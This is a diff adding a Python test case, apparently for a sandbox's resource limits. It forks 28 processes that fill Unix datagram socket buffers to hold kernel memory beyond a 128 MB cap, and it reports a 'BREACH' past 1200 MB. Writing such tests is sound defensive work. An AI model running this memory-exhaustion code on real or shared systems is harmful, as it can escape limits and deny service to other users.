@@ -1,0 +1,35 @@
+# /// case
+# attack = "Fills pairs of sockets with datagrams that each take all that a socket may hold."
+# limits = {wall_s = 10.0, memory_mb = 128}
+# statuses = ["exited", "memory_limit", "signalled", "timeout"]
+# ///
+import os, socket, time
+def fill(end, size):
+    end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
+    end.setblocking(False)
+    held = 0
+    try:
+        while True:
+            held += end.send(bytes(size))
+    except OSError:
+        return held
+ready, told = os.pipe()
+def tell(held):
+    os.write(told, (held >> 12).to_bytes(2, "big"))
+for _ in range(28):
+    if os.fork() == 0:
+        pairs = []
+        try:
+            while len(pairs) < 28:
+                pairs.append(socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM))
+                tell(sum(fill(end, 200_000) for end in pairs[-1]))
+        finally:
+            os.close(told)
+            time.sleep(60)
+os.close(told)
+held = 0
+while piece := os.read(ready, 2):
+    held += int.from_bytes(piece, "big") / 256
+    if held > 1200:
+        print("BREACH", held, "MB in sockets at once, in a cell of 1024 MB", flush=True)
+print("got", held)
